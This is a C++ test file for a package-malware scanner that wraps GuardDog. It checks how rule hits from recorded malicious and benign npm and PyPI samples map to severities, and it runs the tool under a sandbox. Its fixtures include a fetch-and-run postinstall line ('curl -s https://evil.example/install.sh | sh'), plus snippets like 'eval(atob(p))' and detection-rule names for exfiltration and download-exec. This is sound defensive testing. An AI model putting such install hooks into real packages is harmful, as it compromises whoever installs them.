// GuardDog 3.2.0 as a consumer of the sandbox port: upstream's guarddog.rs tests, kept by
// name (upstream-today.md §2.3), the mapping on REAL recorded output
// (tests/fixtures/guarddog/), the plan as data, and the real GuardDog run under `none` and
// under bwrap in its room, with the same findings.
#include <gtest/gtest.h>

#include "adapters/scanners/guarddog.h"
#include "adapters/scanners/subprocess.h"
#include "real_scanners.h"

namespace batlehub::adapters {
namespace {

using core::Finding;
using core::FindingKind;
using core::PackageKind;
using core::ReasonCode;
using core::ScannerError;
using core::Severity;
using nlohmann::json;
using namespace batlehub::testing;

GuardDogScanner scanner(std::vector<std::string> ecosystems = {}) {
  GuardDogOptions o;
  o.ecosystems = std::move(ecosystems);
  return GuardDogScanner(o);
}

json guarddog_fixture(const std::string& name) {
  auto j = parse_json(slurp(kFixtures + "guarddog/" + name));
  EXPECT_TRUE(j) << name;
  return j ? *j : json();
}

// --- upstream's tests --------------------------------------------------------------------

TEST(GuardDog, documented_output_maps_by_rule_family) {
  // Upstream's "documented" shape (an array of objects with `result.results`), which
  // GuardDog's `verify` still prints per dependency; the rule names are upstream's.
  json doc =
      json::parse(R"j([{"dependency": "x", "version": "1.0.0", "result": {"issues": 6, "errors": {}, "path": "/tmp/x",
    "results": {
      "npm-install-script": [{"location": "package.json:5", "code": "\"postinstall\": \"node i.js\"", "message": "runs at install"}],
      "exec-base64": [{"location": "i.js:1", "code": "eval(atob(p))", "message": "base64 then exec"}],
      "typosquatting": "This package closely resembles: left-pad",
      "exfiltrate-sensitive-data": [{"location": "i.js:9", "code": "post(env)", "message": "sends the env"}],
      "shady-links": [{"location": "i.js:3", "code": "x.ru", "message": "a shady link"}],
      "code-execution": [{"location": "i.js:4", "code": "exec(x)", "message": "runs a command"}],
      "empty_info": null
    }}}])j");
  auto fs = scanner().map(doc);
  ASSERT_TRUE(fs) << fs.error().message;
  EXPECT_EQ(describe(*fs),
            "guarddog malware_signal MALWARE_SIGNAL medium [code-execution] code-execution: runs a command (i.js:4)\n"
            "guarddog install_hook INSTALL_HOOK high [exec-base64] exec-base64: base64 then exec (i.js:1)\n"
            "guarddog malware_signal MALWARE_SIGNAL high [exfiltrate-sensitive-data] exfiltrate-sensitive-data: sends "
            "the env (i.js:9)\n"
            "guarddog install_hook INSTALL_HOOK high [npm-install-script] npm-install-script: runs at install "
            "(package.json:5)\n"
            "guarddog malware_signal MALWARE_SIGNAL high [shady-links] shady-links: a shady link (i.js:3)\n"
            "guarddog typosquat TYPOSQUAT_SUSPECT medium [typosquatting] typosquatting: This package closely "
            "resembles: left-pad\n");
  EXPECT_EQ((*fs)[1].raw, R"j({"code":"eval(atob(p))","location":"i.js:1","message":"base64 then exec"})j");
}

// One hit of a rule at `loc`, as GuardDog 3.2.0 lists it.
json hit(const char* loc) {
  return json::array({json{{"location", loc}, {"message", "m"}}});
}

// Weighed together (issue 28): capabilities that are low alone decide when one file that runs
// at install or import both reaches the network and executes, collects or conceals.
TEST(GuardDog, a_file_run_at_import_that_reaches_the_network_and_executes_is_high_together) {
  json doc = {
      {"results",
       {{"capability-network-download", hit("genui-0.0.1/genui/__init__.py:32")},
        {"capability-process-spawn", hit("genui-0.0.1/genui/__init__.py:29")},
        // the same pair in a module nothing imports at once, and in the tests
        {"capability-network-outbound", json::array({json{{"location", "genui-0.0.1/genui/client.py:3"}},
                                                     json{{"location", "genui-0.0.1/tests/test_x.py:3"}}})},
        {"threat-runtime-environment-read", json::array({json{{"location", "genui-0.0.1/genui/client.py:9"}},
                                                         json{{"location", "genui-0.0.1/tests/test_x.py:4"}}})}}}};
  auto fs = scanner().map(doc);
  ASSERT_TRUE(fs);
  std::vector<Finding> together;
  for (const auto& f : *fs) {
    if (f.reference == "batlehub-behaviour-at-install-or-import")
      together.push_back(f);
    else
      EXPECT_EQ(f.severity, Severity::kLow) << f.reference.value_or("") << " alone stays low";
  }
  ASSERT_EQ(together.size(), 1u);
  EXPECT_EQ(together[0].severity, Severity::kHigh);
  EXPECT_EQ(together[0].code, ReasonCode::kMalwareSignal);
  EXPECT_EQ(together[0].summary,
            "genui-0.0.1/genui/__init__.py runs at import and its code does all of: network, execute");
  EXPECT_EQ(json::parse(together[0].raw)["when"], "import");

  // One behaviour, however many hits, is not a combination; nor is collect + execute
  // without the network.
  json quiet = {{"results",
                 {{"capability-network-outbound", hit("x-1.0/setup.py:3")},
                  {"capability-network-download", hit("x-1.0/setup.py:4")},
                  {"capability-process-spawn", hit("x-1.0/x/__init__.py:1")},
                  {"capability-filesystem-browser", hit("x-1.0/x/__init__.py:2")}}}};
  auto qs = scanner().map(quiet);
  ASSERT_TRUE(qs);
  for (const auto& f : *qs) EXPECT_NE(f.reference.value_or(""), "batlehub-behaviour-at-install-or-import") << f.summary;

  // A connection and a process at import are a client with plugins (sphinx's __init__,
  // pytest-rerunfailures' module, held-out-2); so is GuardDog's download-and-exec, which
  // pyperclip's clipboard helpers trip. Add what it gathers or hides and it is a stealer.
  json client = {{"results",
                  {{"capability-network-outbound", hit("sphinx-9.0/sphinx/__init__.py:3")},
                   {"capability-process-spawn", hit("sphinx-9.0/sphinx/__init__.py:8")},
                   {"threat-process-download-exec", hit("pyperclip/__init__.py:40")},
                   {"capability-filesystem-write-executable", hit("pyperclip/__init__.py:41")}}}};
  auto cs = scanner().map(client);
  ASSERT_TRUE(cs);
  ASSERT_EQ(cs->size(), 4u);
  for (const auto& f : *cs) EXPECT_NE(f.reference.value_or(""), "batlehub-behaviour-at-install-or-import") << f.summary;
  json stealer = {{"results",
                   {{"capability-network-outbound", hit("steal/__init__.py:3")},
                    {"threat-runtime-environment-read", hit("steal/__init__.py:4")}}}};
  auto st = scanner().map(stealer);
  ASSERT_TRUE(st);
  ASSERT_EQ(st->size(), 3u);
  EXPECT_EQ(st->back().summary, "steal/__init__.py runs at import and its code does all of: connect, collect");

  json setup = {{"results",
                 {{"capability-network-outbound", hit("x-1.0/setup.py:3")},
                  {"threat-runtime-environment-read", hit("x-1.0/setup.py:9")}}}};
  auto ss = scanner().map(setup);
  ASSERT_TRUE(ss);
  ASSERT_FALSE(ss->empty());
  EXPECT_EQ(ss->back().summary, "x-1.0/setup.py runs at install and its code does all of: connect, collect");
}

// Held-out-6's lsassy and pypykatz (threat-process-memory) and held-out-5's seleniumbase (a
// comment naming ~/.pypirc: threat-filesystem-read) were blocked by a rule GuardDog rates
// unspecific, raised to high only because it sat in setup.py. Such a rule keeps its severity
// there; a rule GuardDog rates specific, or one the table lowered for a corpus reason
// (exfil-messenger), still rises by its place.
TEST(GuardDog, a_rule_guarddog_rates_unspecific_is_not_raised_in_setup_py) {
  json doc = {{"results",
               {{"threat-process-memory", hit("lsassy-3.1.16/setup.py:12")},
                {"threat-filesystem-read", hit("seleniumbase-4.0/setup.py:40")},
                {"threat-network-exfil-messenger", hit("x-1.0/setup.py:3")},
                {"threat-runtime-obfuscation-chr", hit("y-1.0/setup.py:5")}}}};
  auto fs = scanner().map(doc);
  ASSERT_TRUE(fs) << fs.error().message;
  std::map<std::string, Severity> by_rule;
  for (const auto& f : *fs) by_rule[f.reference.value_or("")] = f.severity;
  EXPECT_EQ(by_rule["threat-process-memory"], Severity::kMedium) << describe(*fs);
  EXPECT_EQ(by_rule["threat-filesystem-read"], Severity::kMedium) << describe(*fs);
  EXPECT_EQ(by_rule["threat-network-exfil-messenger"], Severity::kHigh) << describe(*fs);
  EXPECT_EQ(by_rule["threat-runtime-obfuscation-chr"], Severity::kCritical) << describe(*fs);
}

// Issue 28's held-out false positives, each a shape of ordinary code: three unspecific
// threats in a big library are not "three together", and a contributor's page is not an
// http dependency.
TEST(GuardDog, unspecific_threats_do_not_add_up_and_a_page_url_is_not_a_dependency) {
  json big = {{"results",
               {{"threat-filesystem-read", hit("hub-1.0/hub/file_download.py:10")},
                {"threat-network-exfiltration", hit("hub-1.0/hub/hf_api.py:20")},
                {"threat-process-download-exec", hit("hub-1.0/hub/cli.py:30")},
                {"threat-filesystem-autostart", hit("hub-1.0/hub/cli.py:40")}}}};
  auto fs = scanner().map(big);
  ASSERT_TRUE(fs);
  for (const auto& f : *fs) {
    EXPECT_NE(f.reference.value_or(""), "batlehub-threats-together") << f.summary;
    EXPECT_EQ(f.severity, Severity::kMedium) << f.summary;
  }
  json specific = {{"results",
                    {{"threat-network-outbound-shady-links", hit("x-1.0/x/a.py:1")},
                     {"threat-runtime-obfuscation-chr", hit("x-1.0/x/b.py:1")},
                     {"threat-runtime-screencapture", hit("x-1.0/x/c.py:1")}}}};
  auto sp = scanner().map(specific);
  ASSERT_TRUE(sp);
  ASSERT_FALSE(sp->empty());
  EXPECT_EQ(sp->back().reference, "batlehub-threats-together");

  auto dep = [](const char* code, const char* match) {
    return json{{"results",
                 {{"threat-npm-http-dependency",
                   json::array({json{{"location", "package/package.json:14"}, {"code", code}, {"match", match}}})}}}};
  };
  auto page = scanner().map(
      dep("        {\n            \"url\": \"http://www.example.com\"\n        },", ": \"http://www.example.com\""));
  ASSERT_TRUE(page);
  ASSERT_EQ(page->size(), 1u);
  EXPECT_EQ((*page)[0].severity, Severity::kLow);
  auto real = scanner().map(dep("  \"dependencies\": {\n    \"helper\": \"http://files.example/helper.tgz\"\n  },",
                                ": \"http://files.example/helper.tgz\""));
  ASSERT_TRUE(real);
  ASSERT_EQ(real->size(), 1u);
  // Medium: a URL dependency alone does not decide (issue 45: popular packages carry them).
  EXPECT_EQ((*real)[0].severity, Severity::kMedium);
}

TEST(GuardDog, an_unrecognised_shape_is_an_output_error_not_a_clean_answer) {
  for (const char* doc : {R"({"package": "x", "issues": 0})", R"([{"result": {"issues": 0}}])", R"([])", R"("results")",
                          R"({"results": ["a list, not a map"]})", R"(42)"}) {
    auto fs = scanner().map(json::parse(doc));
    ASSERT_FALSE(fs) << doc;
    EXPECT_EQ(fs.error().kind, ScannerError::Kind::kOutput) << doc;
    EXPECT_EQ(fs.error().message,
              "guarddog output carried no `results` object (neither at the top level nor as `result.results`)");
  }
}

TEST(GuardDog, coverage_follows_the_configured_ecosystems) {
  GuardDogScanner all = scanner();
  EXPECT_TRUE(all.supports(PackageKind::kNpm));
  EXPECT_TRUE(all.supports(PackageKind::kPypi));
  EXPECT_TRUE(all.supports(PackageKind::kGoproxy));
  for (PackageKind k : {PackageKind::kCargo, PackageKind::kRubygems, PackageKind::kComposer, PackageKind::kMaven,
                        PackageKind::kNuget, PackageKind::kConda}) {
    EXPECT_FALSE(all.supports(k)) << core::to_string(k);
  }
  GuardDogScanner npm_only = scanner({"npm"});
  EXPECT_TRUE(npm_only.supports(PackageKind::kNpm));
  EXPECT_FALSE(npm_only.supports(PackageKind::kPypi));
  EXPECT_FALSE(npm_only.supports(PackageKind::kGoproxy));
  GuardDogScanner go_pypi = scanner({"go", "pypi"});
  EXPECT_FALSE(go_pypi.supports(PackageKind::kNpm));
  EXPECT_TRUE(go_pypi.supports(PackageKind::kPypi));
  EXPECT_TRUE(go_pypi.supports(PackageKind::kGoproxy));
  auto p = npm_only.plan(sample_input(PackageKind::kPypi, "pypi-benign"));
  ASSERT_FALSE(p);
  EXPECT_EQ(p.error().kind, ScannerError::Kind::kUnsupported);
}

// --- real recorded output ----------------------------------------------------------------

TEST(GuardDog, the_real_report_on_the_malicious_npm_sample_maps_each_hit_to_a_finding) {
  auto fs = scanner().map(guarddog_fixture("npm-malicious.json"));
  ASSERT_TRUE(fs) << fs.error().message;
  // Each rule has its row in finding_model.cc (docs/verdicts.md): a LOLBAS tool (curl) in
  // a postinstall is a high install hook, a bare hook a medium one, a capability low, and
  // base64-then-exec — which GuardDog rates high but unspecific, since bundlers do it — medium
  // in a package's runtime code.
  EXPECT_EQ(describe(*fs),
            "guarddog install_hook INSTALL_HOOK medium [capability-process-hooks] capability-process-hooks: "
            "has_npm_hook rule matched (package/package.json:7)\n"
            "guarddog malware_signal MALWARE_SIGNAL low [capability-process-spawn] capability-process-spawn: "
            "Detects process execution and spawning (package/index.js:7)\n"
            "guarddog install_hook INSTALL_HOOK high [threat-process-hooks] threat-process-hooks: "
            "Detects LOLBAS usage in install hooks (execution and network tools) (package/package.json:7)\n"
            "guarddog malware_signal MALWARE_SIGNAL medium [threat-runtime-obfuscation-base64exec] "
            "threat-runtime-obfuscation-base64exec: Detects base64 decoding followed by code execution "
            "(package/index.js:6)\n");
  auto raw = json::parse((*fs)[2].raw);
  EXPECT_EQ(raw["match"], "\"postinstall\": \"curl -s https://evil.example/install.sh | sh");
}

TEST(GuardDog, the_real_report_on_the_malicious_pypi_sample_maps_each_hit_to_a_finding) {
  auto fs = scanner().map(guarddog_fixture("pypi-malicious.json"));
  ASSERT_TRUE(fs) << fs.error().message;
  ASSERT_EQ(fs->size(), 8u) << describe(*fs);
  // The last is batlehub's: setup.py both reaches the network and executes, at install.
  EXPECT_EQ(fs->back().reference, "batlehub-behaviour-at-install-or-import");
  EXPECT_EQ(fs->back().severity, Severity::kHigh);
  EXPECT_EQ(
      fs->back().summary,
      "requests-helperz-0.1.0/setup.py runs at install and its code does all of: network, connect, execute, conceal");
  fs->pop_back();
  std::vector<std::string> refs;
  std::vector<std::string> rated;
  for (const Finding& f : *fs) {
    refs.push_back(f.reference.value_or(""));
    rated.push_back(std::string(core::to_string(f.kind)) + " " + std::string(core::to_string(f.severity)));
    EXPECT_TRUE(f.summary.find("(requests-helperz-0.1.0/setup.py:") != std::string::npos) << f.summary;
  }
  // Every hit sits in the sdist's setup.py, which runs at install: a capability stays low,
  // and a hook threat — a setup.py that fetches and runs code — is a high install hook.
  // download-exec and base64exec stay medium: GuardDog rates them unspecific, and a setup.py
  // that fetches a build dependency and compiles matches the first too (issue 45). The
  // behaviour above is what blocks this one.
  EXPECT_EQ(rated, (std::vector<std::string>{"malware_signal low", "install_hook medium", "malware_signal low",
                                             "malware_signal medium", "malware_signal medium", "install_hook high",
                                             "malware_signal medium"}))
      << describe(*fs);
  EXPECT_EQ(refs, (std::vector<std::string>{"capability-network-lolbas", "capability-process-hooks",
                                            "capability-process-spawn", "threat-process-download-exec",
                                            "threat-process-download-exec", "threat-process-hooks",
                                            "threat-runtime-obfuscation-base64exec"}));
}

TEST(GuardDog, a_real_report_with_no_hit_is_a_clean_answer) {
  for (const char* f : {"npm-benign.json", "pypi-benign.json"}) {
    json doc = guarddog_fixture(f);
    EXPECT_EQ(doc["issues"], 0) << f;
    EXPECT_TRUE(doc["results"]["threat-process-hooks"].is_object()) << "a rule with no hit is {} in 3.2.0";
    auto fs = scanner().map(doc);
    ASSERT_TRUE(fs) << f << ": " << fs.error().message;
    EXPECT_TRUE(fs->empty()) << f;
  }
}

TEST(GuardDog, a_metadata_rule_is_a_message_or_null_and_a_control_character_is_shown_escaped) {
  json doc = {{"results",
               {{"typosquatting", "resembles left-pad"},
                {"empty_information", nullptr},
                {"odd", json::array({{{"location", "a\nb.js:1"}, {"message", "m\x01"}}})}}}};
  auto fs = scanner().map(doc);
  ASSERT_TRUE(fs) << fs.error().message;
  EXPECT_EQ(describe(*fs),
            "guarddog malware_signal MALWARE_SIGNAL medium [odd] odd: m\\x01 (a\\nb.js:1)\n"
            "guarddog typosquat TYPOSQUAT_SUSPECT medium [typosquatting] typosquatting: resembles left-pad\n");
}

// --- the plan, as data, and the exits ----------------------------------------------------

TEST(GuardDog, the_plan_extracts_the_artifact_at_package_and_names_it_relative_to_the_work_dir) {
  for (auto [kind, eco] : {std::pair{PackageKind::kNpm, "npm"}, std::pair{PackageKind::kPypi, "pypi"},
                           std::pair{PackageKind::kGoproxy, "go"}}) {
    core::ScanInput in = sample_input(kind, "npm-benign");
    auto plan = scanner().plan(in);
    ASSERT_TRUE(plan) << plan.error().message;
    ASSERT_EQ(plan->size(), 1u);
    const core::RunSpec& spec = plan->front();
    EXPECT_EQ(spec.argv, (std::vector<std::string>{"guarddog", eco, "scan", "package", "--output-format", "json"}));
    EXPECT_FALSE(spec.network);
    EXPECT_EQ(spec.label.scanner, "guarddog");
    ASSERT_EQ(spec.bundle.entries.size(), 1u);
    EXPECT_EQ(spec.bundle.entries[0].kind, wire::EntryKind::kArchive);
    EXPECT_EQ(spec.bundle.entries[0].path.str(), "package");
    EXPECT_EQ(spec.bundle.entries[0].blob, in.artifact);
    EXPECT_FALSE(spec.bundle.entries[0].strip_wrapper);
  }
  GuardDogOptions o;
  o.name = "gd";
  o.command = "/opt/batlehub/guarddog/bin/guarddog";
  o.timeout = std::chrono::seconds(7);
  o.limits.cpu_seconds = 9;
  auto plan = GuardDogScanner(o).plan(sample_input(PackageKind::kNpm, "npm-benign"));
  ASSERT_TRUE(plan);
  EXPECT_EQ(plan->front().argv.front(), "/opt/batlehub/guarddog/bin/guarddog");
  EXPECT_EQ(plan->front().label.scanner, "gd");
  EXPECT_EQ(plan->front().timeout, std::chrono::seconds(7));
  EXPECT_EQ(plan->front().limits.cpu_seconds, 9u);
  core::ScanInput none;
  none.package.kind = PackageKind::kNpm;
  auto p = scanner().plan(none);
  ASSERT_FALSE(p);
  EXPECT_EQ(p.error().kind, ScannerError::Kind::kUnsupported);
}

TEST(GuardDog, exit_zero_or_one_is_an_answer_and_any_other_exit_is_crashed) {
  core::ScanInput in;
  std::string report = slurp(kFixtures + "guarddog/npm-malicious.json");
  for (int status : {0, 1}) {
    auto fs = scanner().parse(in, {answered(status, report)});
    ASSERT_TRUE(fs) << status;
    EXPECT_EQ(fs->size(), 4u);
  }
  auto two = scanner().parse(in, {answered(2, "", "Error: No such command 'scna'.\n")});
  ASSERT_FALSE(two);
  EXPECT_EQ(two.error().kind, ScannerError::Kind::kCrashed);
  EXPECT_EQ(two.error().message, "guarddog exited 2: Error: No such command 'scna'.");
  auto killed = scanner().parse(in, {failed(core::SandboxError::Kind::kCrashed, "guarddog was killed by signal 9")});
  ASSERT_FALSE(killed);
  EXPECT_EQ(killed.error().kind, ScannerError::Kind::kCrashed);
  auto refused = scanner().parse(in, {failed(core::SandboxError::Kind::kBundleRefused, "an entry escapes")});
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().kind, ScannerError::Kind::kOutput);
}

TEST(GuardDog, exit_one_with_no_report_is_an_output_error_carrying_guarddogs_words) {
  // What 3.2.0 does when its own kernel sandbox is unavailable.
  auto fs = scanner().parse({}, {answered(1, "",
                                          "ERROR: Kernel-level sandbox is not available on this platform. "
                                          "Use --no-sandbox to scan without it.\n")});
  ASSERT_FALSE(fs);
  EXPECT_EQ(fs.error().kind, ScannerError::Kind::kOutput);
  EXPECT_EQ(fs.error().message,
            "guarddog exited 1 and printed no report: ERROR: Kernel-level sandbox is not available on this platform. "
            "Use --no-sandbox to scan without it.");
}

// --- the real GuardDog ---------------------------------------------------------------------

class GuardDogReal : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (!executable(std::string(kGuardDogVenvBin) + "/guarddog")) return;
    scratch_ = new Scratch();
    rooms_ = scratch_->root() / "rooms";
    if (bwrap_unavailable().empty()) room_error_ = new std::string(build_room_from(rooms_, "guarddog", "guarddog"));
  }
  static void TearDownTestSuite() {
    delete scratch_;
    scratch_ = nullptr;
    delete room_error_;
    room_error_ = nullptr;
  }
  void SetUp() override {
    if (!scratch_) {
      GTEST_SKIP() << "GuardDog is not installed at " << kGuardDogVenvBin
                   << " (scripts/install-scanners.sh installs it)";
    }
    if (auto why = own_network_missing(); !why.empty()) GTEST_SKIP() << why;
  }
  void need_bwrap() {
    if (auto why = bwrap_unavailable(); !why.empty()) GTEST_SKIP() << why;
    ASSERT_TRUE(room_error_ && room_error_->empty()) << (room_error_ ? *room_error_ : "");
  }

  static Scratch* scratch_;
  static fs::path rooms_;
  static std::string* room_error_;
};
Scratch* GuardDogReal::scratch_ = nullptr;
fs::path GuardDogReal::rooms_;
std::string* GuardDogReal::room_error_ = nullptr;

TEST_F(GuardDogReal, under_none_the_samples_give_the_findings_of_the_recorded_reports) {
  auto none = none_runtime(*scratch_);
  for (const Sample& s : kSamples) {
    auto got = core::scan_with(scanner(), *none, sample_input(s.kind, s.name));
    ASSERT_TRUE(got) << s.name << ": " << core::describe(got.error());
    auto want = scanner().map(guarddog_fixture(std::string(s.name) + ".json"));
    ASSERT_TRUE(want);
    EXPECT_EQ(describe(*got), describe(*want)) << s.name;
    EXPECT_EQ(*got, *want) << s.name;
  }
}

TEST_F(GuardDogReal, under_bwrap_in_its_room_the_samples_give_the_same_findings_as_under_none) {
  BATLEHUB_NEED_BWRAP();
  auto none = none_runtime(*scratch_);
  auto bwrap = bwrap_runtime(*scratch_, rooms_);
  for (const Sample& s : kSamples) {
    auto b = core::scan_with(scanner(), *bwrap, sample_input(s.kind, s.name));
    ASSERT_TRUE(b) << s.name << ": " << core::describe(b.error());
    auto n = core::scan_with(scanner(), *none, sample_input(s.kind, s.name));
    ASSERT_TRUE(n) << s.name << ": " << core::describe(n.error());
    EXPECT_EQ(*b, *n) << s.name;
    EXPECT_EQ(b->empty(), std::string(s.name).ends_with("benign")) << s.name << "\n" << describe(*b);
  }
}

TEST_F(GuardDogReal, the_room_runs_the_entry_point_with_no_shell_and_the_probe_passes) {
  BATLEHUB_NEED_BWRAP();
  const fs::path room = rooms_ / "guarddog";
  for (const char* sh : {"bin/sh", "usr/bin/sh", "bin/bash", "usr/bin/bash", "bin/dash", "usr/bin/dash"}) {
    EXPECT_FALSE(fs::exists(room / sh)) << sh;
  }
  // The shebang of the entry point names the venv's python, which must be in the room.
  std::string script = slurp((room / "usr/local/bin/guarddog").string());
  ASSERT_TRUE(script.starts_with("#!/opt/batlehub/guarddog/bin/python3")) << script.substr(0, 80);
  std::string interp = script.substr(2, script.find('\n') - 2);
  EXPECT_TRUE(fs::is_symlink(room / interp.substr(1))) << interp;
  EXPECT_TRUE(fs::exists(room / "usr/bin/python3.11"));
  auto r = bwrap_runtime(*scratch_, rooms_)
               ->probe(core::ProbeTarget{"guarddog", std::nullopt, {"/usr/local/bin/guarddog"}, {}});
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_TRUE(r->passed()) << r->first_failure().value_or("");
}

TEST_F(GuardDogReal, a_command_that_hangs_crashes_or_prints_garbage_is_a_scanner_error_under_none_and_bwrap) {
  fs::path fakes = scratch_->root() / "fakes";
  write_fakes(fakes);
  struct Case {
    const char* fake;
    ScannerError::Kind want;
  };
  const Case cases[] = {{"fake-hang", ScannerError::Kind::kTimeout},
                        {"fake-segv", ScannerError::Kind::kCrashed},
                        {"fake-garbage", ScannerError::Kind::kOutput},
                        {"fake-exit2", ScannerError::Kind::kCrashed}};
  auto run = [&](core::SandboxRuntime& rt, const fs::path& dir, const std::string& room) {
    for (const Case& c : cases) {
      GuardDogOptions o;
      o.name = room;
      o.command = (dir / c.fake).string();
      o.timeout = std::chrono::seconds(2);
      auto got = core::scan_with(GuardDogScanner(o), rt, sample_input(PackageKind::kNpm, "npm-benign"));
      ASSERT_FALSE(got) << rt.name() << " " << c.fake;
      EXPECT_EQ(got.error().kind, c.want) << rt.name() << " " << c.fake << ": " << core::describe(got.error());
      if (std::string(c.fake) == "fake-exit2") {
        EXPECT_EQ(got.error().message, "guarddog exited 2: fake: cannot go on");
      }
    }
  };
  auto none = none_runtime(*scratch_);
  run(*none, fakes, "guarddog");
  if (!bwrap_unavailable().empty()) return;
  ASSERT_EQ(build_fake_room(rooms_, "fake-guarddog", fakes), "");
  run(*bwrap_runtime(*scratch_, rooms_), "/usr/bin", "fake-guarddog");
}

}  // namespace
}  // namespace batlehub::adapters
